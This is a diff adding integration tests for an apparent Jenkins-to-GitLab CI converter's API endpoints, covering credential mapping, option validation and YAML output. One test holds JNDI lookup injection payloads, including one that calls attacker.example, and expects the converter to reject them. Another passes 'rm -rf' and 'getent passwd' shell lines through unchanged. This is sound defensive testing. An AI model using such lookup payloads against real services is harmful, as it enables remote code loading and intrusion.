@@ -8,6 +8,7 @@ import convertHandler from '@/pages/api/convert'
 import simpleConvertHandler from '@/pages/api/simple-convert'
 import pluginAnalysisHandler from '@/pages/api/plugin-analysis'
 import dryRunHandler from '@/pages/api/dry-run'
+import credsHandler from '@/pages/api/creds'
 
 describe('API Endpoints Integration Tests', () => {
   const sampleJenkinsfile = `
@@ -82,6 +83,7 @@ pipeline {
       expect(data.yaml).toContain('stages:')
       expect(data.yaml).toContain('script:')
       expect(data.yaml).not.toContain('pipeline {')
+      expect(data.lint).toEqual({ status: 'valid', errors: [], warnings: [] })
     })
 
     test('should reject empty content', async () => {
@@ -101,6 +103,84 @@ pipeline {
       expect(data.error).toContain('Content is required')
     })
 
+    test('should inline steps from an uploaded shared library', async () => {
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: {
+          content: "@Library('build-lib') _\npipeline { agent any; stages { stage('Build') { steps { mavenBuild(goals: 'verify') } } } }",
+          libraries: [{ name: 'build-lib', files: { 'vars/mavenBuild.groovy': 'def call(Map config) {\n  sh "mvn -B ${config.goals}"\n}' } }]
+        }
+      })
+
+      await convertHandler(req, res)
+
+      expect(res._getStatusCode()).toBe(200)
+      expect(JSON.parse(res._getData()).yaml).toContain('mvn -B verify')
+    })
+
+    test('should trigger downstream projects from an uploaded job mapping', async () => {
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: {
+          content: "pipeline { agent any; stages { stage('Deploy') { steps { build job: 'deploy/prod' } } } }",
+          jobMapping: 'deploy/prod: ops/production-deploy\n'
+        }
+      })
+
+      await convertHandler(req, res)
+
+      expect(res._getStatusCode()).toBe(200)
+      expect(JSON.parse(res._getData()).yaml).toContain('  trigger:\n    project: ops/production-deploy\n    strategy: depend\n')
+    })
+
+    test('should shape the output by the chosen options', async () => {
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: { content: sampleJenkinsfile, options: { targetComplexity: 'simple', generateDocumentation: true } }
+      })
+
+      await convertHandler(req, res)
+
+      const data = JSON.parse(res._getData())
+      expect(res._getStatusCode()).toBe(200)
+      expect(data.yaml).not.toContain('include:')
+      expect(data.files['README-CI.md']).toMatch(/^# CI\/CD pipeline\n/)
+    })
+
+    test('should reject unknown options', async () => {
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: { content: sampleJenkinsfile, options: { targetComplexity: 'extreme' } }
+      })
+
+      await convertHandler(req, res)
+
+      expect(res._getStatusCode()).toBe(400)
+      expect(JSON.parse(res._getData()).error).toBe('targetComplexity must be simple, balanced or advanced')
+
+      const inherited = createMocks({
+        method: 'POST',
+        body: { content: sampleJenkinsfile, options: { toString: true } }
+      })
+
+      await convertHandler(inherited.req, inherited.res)
+
+      expect(inherited.res._getStatusCode()).toBe(400)
+      expect(JSON.parse(inherited.res._getData()).error).toBe("Unknown option 'toString'")
+    })
+
+    test('should reject a library that is not a zip archive', async () => {
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: { content: sampleJenkinsfile, libraries: [{ name: 'build-lib', zip: 'bm90IGEgemlw' }] }
+      })
+
+      await convertHandler(req, res)
+
+      expect(res._getStatusCode()).toBe(400)
+      expect(JSON.parse(res._getData()).error).toBe("Library 'build-lib': Not a zip archive")
+    })
+
     test('should reject non-POST methods', async () => {
       const { req, res } = createMocks({
         method: 'GET'
@@ -201,6 +281,22 @@ pipeline {
       expect(data.stages).toContain('deploy')
     })
 
+    test('should write the fallback template without empty entries', async () => {
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: {
+          jenkinsContent: sampleJenkinsfile
+        }
+      })
+
+      await simpleConvertHandler(req, res)
+
+      const data = JSON.parse(res._getData())
+      expect(data.yaml).not.toMatch(/^\s*- $/m)
+      expect(data.yaml).toContain('.deploy:\n  stage: deploy\n  image: bitnami/kubectl:latest')
+      expect(data.yaml).toContain('deploy:production:\n  extends: .deploy')
+    })
+
     test('should handle missing jenkinsContent field', async () => {
       const { req, res } = createMocks({
         method: 'POST',
@@ -316,6 +412,67 @@ pipeline {
     })
   })
 
+  describe('/api/creds', () => {
+    test('should map detected credentials to GitLab variables', async () => {
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: {
+          jenkinsfile: sampleJenkinsfile,
+          projectId: 'group/app',
+          options: { generateEnv: false, dryRun: true }
+        }
+      })
+
+      await credsHandler(req, res)
+
+      expect(res._getStatusCode()).toBe(200)
+
+      const data = JSON.parse(res._getData())
+      expect(data.success).toBe(true)
+      expect(data.data.credentials).toMatchObject([{ credentialsId: 'docker-token', kind: 'string', line: 31 }])
+      expect(data.data.variables.map((v: any) => v.key)).toEqual(['DOCKER_TOKEN'])
+      expect(data.data.envFile).toBeUndefined()
+      expect(data.data.script).toContain('DRY_RUN="${DRY_RUN:-true}"')
+      expect(data.data.summary).toEqual({
+        totalCredentials: 1,
+        totalVariables: 1,
+        fileVariables: 0,
+        protectedVariables: 1,
+        maskedVariables: 1
+      })
+    })
+
+    test('should require jenkinsfile field', async () => {
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: {}
+      })
+
+      await credsHandler(req, res)
+
+      expect(res._getStatusCode()).toBe(400)
+      expect(JSON.parse(res._getData()).error).toContain('jenkinsfile is required')
+    })
+
+    test('should reject malformed custom mappings and options', async () => {
+      const mapping = createMocks({
+        method: 'POST',
+        body: { jenkinsfile: sampleJenkinsfile, customMappings: { 'docker-creds': { proposedKey: 42 } } }
+      })
+      await credsHandler(mapping.req, mapping.res)
+      expect(mapping.res._getStatusCode()).toBe(400)
+      expect(JSON.parse(mapping.res._getData()).error).toBe("Custom mapping 'docker-creds': proposedKey is required")
+
+      const options = createMocks({
+        method: 'POST',
+        body: { jenkinsfile: sampleJenkinsfile, options: { batchSize: 'ten' } }
+      })
+      await credsHandler(options.req, options.res)
+      expect(options.res._getStatusCode()).toBe(400)
+      expect(JSON.parse(options.res._getData()).error).toBe("Option 'batchSize' must be a positive whole number")
+    })
+  })
+
   describe('/api/dry-run', () => {
     const sampleGitLabYaml = `
 stages:
@@ -554,6 +711,50 @@ test-job:
       }
     })
 
+    test('should reject lookup injection payloads', async () => {
+      for (const payload of ['${jndi:ldap://attacker.example/a}', '${java:version}', '${JNDI:dns://x}']) {
+        const { req, res } = createMocks({
+          method: 'POST',
+          body: { content: `pipeline { agent any; stages { stage('Build') { steps { sh 'echo "${payload}"' } } } }` }
+        })
+
+        await convertHandler(req, res)
+
+        expect(res._getStatusCode()).toBe(400)
+        expect(JSON.parse(res._getData()).error).toBe('Invalid content detected')
+      }
+    })
+
+    test('should convert shell commands without lookups as written', async () => {
+      const cleanupJenkinsfile = `
+        pipeline {
+          agent any
+          stages {
+            stage('Clean') {
+              steps {
+                sh 'rm -rf /tmp/build'
+                sh 'getent passwd jenkins'
+              }
+            }
+          }
+        }`
+
+      const { req, res } = createMocks({
+        method: 'POST',
+        body: {
+          content: cleanupJenkinsfile
+        }
+      })
+
+      await convertHandler(req, res)
+
+      // Nothing runs the input, so its scripts are converted as written
+      expect(res._getStatusCode()).toBe(200)
+      const data = JSON.parse(res._getData())
+      expect(data.yaml).toContain('- rm -rf /tmp/build')
+      expect(data.yaml).toContain('- getent passwd jenkins')
+    })
+
     test('should handle timeout scenarios gracefully', async () => {
       // Mock a slow operation
       jest.setTimeout(15000)